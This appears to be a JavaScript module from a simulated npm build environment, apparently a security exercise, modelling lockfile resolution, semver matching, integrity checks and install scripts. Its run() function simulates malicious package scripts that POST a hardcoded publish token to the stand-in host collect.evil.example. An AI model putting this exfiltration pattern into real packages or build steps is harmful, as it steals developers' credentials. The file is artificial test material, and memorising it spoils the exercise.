// A simulated build machine: npm ci, npm test and a start. Nothing to fix in this file.
const { wanted, lock, KINDS } = require('./files');
const registry = require('./registry');
const { send } = require('./network');

const SECRET = 'PUBLISH_TOKEN=kb-77-terracotta';
// What the program requires; its tests also require spec-kettle.
const REQUIRED = ['csv-loom', 'date-lattice', 'mail-coat', 'paper-route'];

// Ranges as npm reads them: ^1.2.3, ~1.2, >=1.0.0 <2, 1.x, *, several with ||.
const toNumbers = (version) => version.split('.').map(Number);
const compare = (left, right) =>
  left.map((number, at) => number - right[at]).find((step) => step !== 0) ?? 0;

function partFits(part, version) {
  const [, sign = '', text] = /^([~^=]|[<>]=?)?(.*)$/.exec(part);
  if (!/^[\dx*]+(\.[\dx*]+)*$/i.test(text)) return false;
  const given = toNumbers(text).filter((number) => number >= 0);
  // How the numbers that are given compare with those of the version.
  const step = compare(toNumbers(version).slice(0, given.length), given);
  if (sign === '>=') return step >= 0;
  if (sign === '>') return step > 0;
  if (sign === '<=') return step <= 0;
  if (sign === '<') return step < 0;
  const first = given.findIndex((number) => number > 0);
  const all = given.length;
  const caret = first < 0 ? all : first + 1;
  const fixed = { '^': caret, '~': Math.min(all, 2) }[sign] ?? all;
  const same = compare(toNumbers(version).slice(0, fixed), given.slice(0, fixed));
  return step >= 0 && same === 0;
}

// An alias names a package before its range: npm:slug-press@^2.0.0.
const rangeFits = (range, version) =>
  range.replace(/^npm:.+@/, '').split('||').some((all) => {
    const parts = all
      .replace(/(\S+)\s+-\s+(\S+)/g, '>=$1 <=$2')
      .replace(/([<>=~^])\s+/g, '$1')
      .trim()
      .split(/\s+/);
    return parts.every((part) => partFits(part || '*', version));
  });
const same = (left = {}, right = {}) =>
  JSON.stringify(Object.entries(left).sort()) ===
  JSON.stringify(Object.entries(right).sort());

const asked = (entry, kinds) =>
  kinds.flatMap((kind) => Object.entries(entry[kind] ?? {}));

// Node.js looks beside the module that asks, then in each folder above.
const holds = (has, from, name) => {
  const path = `${from}/node_modules/${name}`.replace(/^\//, '');
  if (from === '' || has(path)) return path;
  const above = from.slice(0, Math.max(0, from.lastIndexOf('node_modules/') - 1));
  return holds(has, above, name);
};

// Every entry of the lockfile that is needed, beginning with package.json. Throws if something is missing.
function resolve(kinds) {
  const root = lock.packages[''] ?? {};
  if (KINDS.some((kind) => !same(root[kind], wanted[kind])))
    throw new Error('EUSAGE: package.json and package-lock.json are not in sync');
  const modules = new Map();
  const has = (path) => Object.hasOwn(lock.packages, path);
  const queue = asked(wanted, kinds).map((pair) => ['', ...pair]);
  for (const [from, name, range] of queue) {
    const path = holds(has, from, name);
    if (modules.has(path)) continue;
    const entry = has(path) ? lock.packages[path] : undefined;
    if (!entry || !rangeFits(range, entry.version)) throw new Error(`EUSAGE: package-lock.json has no ${name}@${range}`);
    modules.set(path, { name, ...entry });
    queue.push(...asked(entry, KINDS.slice(0, 3)).map((pair) => [path, ...pair]));
  }
  return modules;
}

// The code of a package can do what the build can do.
async function run(module, moment, lines) {
  if (!module.runs.split(' ').includes(moment)) return;
  lines.push(`${module.name}: POST https://collect.evil.example/${module.name}`);
  await send(`https://collect.evil.example/${module.name}`, { method: 'POST', body: SECRET });
}

// npm ci: downloads what the lockfile says, from where it says, and compares the checksum if there is one. Then it runs the install scripts, unless they are switched off.
async function install(settings) {
  const lines = ['$ npm ci'];
  const modules = [];
  try {
    for (const [path, entry] of resolve(KINDS)) {
      // An entry without an address is loaded from the registry.
      const url = entry.resolved ?? registry.address(entry.name, entry.version);
      const module = registry.download(url);
      if (!module) throw new Error(`E404: ${url}`);
      if (entry.integrity && entry.integrity !== module.integrity) throw new Error(`EINTEGRITY: ${path}`);
      modules.push({ ...module, path });
    }
  } catch (error) {
    return { ok: false, modules: [], lines: [...lines, error.message] };
  }
  lines.push(`added ${modules.length} packages`);
  if (!settings['ignore-scripts']) for (const module of modules) await run(module, 'install', lines);
  return { ok: true, modules, lines };
}

// The program requires its modules, and they require theirs.
function requireAll(names, modules) {
  const found = new Map(modules.map((module) => [module.path, module]));
  const queue = names.map((name) => ['', name]);
  const seen = new Set();
  for (const [from, name] of queue) {
    const path = holds((place) => found.has(place), from, name);
    if (seen.has(path)) continue;
    seen.add(path);
    const module = found.get(path);
    if (!module) throw new Error(`Cannot find module '${name}'`);
    if (module.works_as !== name) throw new Error(`TypeError: ${name} is not a function`);
    // What its code requires does not depend on what the lockfile says about it.
    const needed = Object.keys(JSON.parse(module.dependencies));
    queue.push(...needed.map((other) => [path, other]));
  }
}

// npm test, and a start as in production, without what only development needs.
async function load(modules) {
  const lines = ['$ npm test'];
  try {
    requireAll([...REQUIRED, 'spec-kettle'], modules);
    for (const module of modules) await run(module, 'load', lines);
    lines.push('31 tests passed', '$ npm prune --omit=dev && npm start');
    const kept = resolve(KINDS.slice(0, 3));
    requireAll(REQUIRED, modules.filter(({ path }) => kept.has(path)));
  } catch (error) {
    return { ok: false, lines: [...lines, error.message] };
  }
  return { ok: true, lines: [...lines, 'listening on 3000'] };
}

module.exports = { install, load };
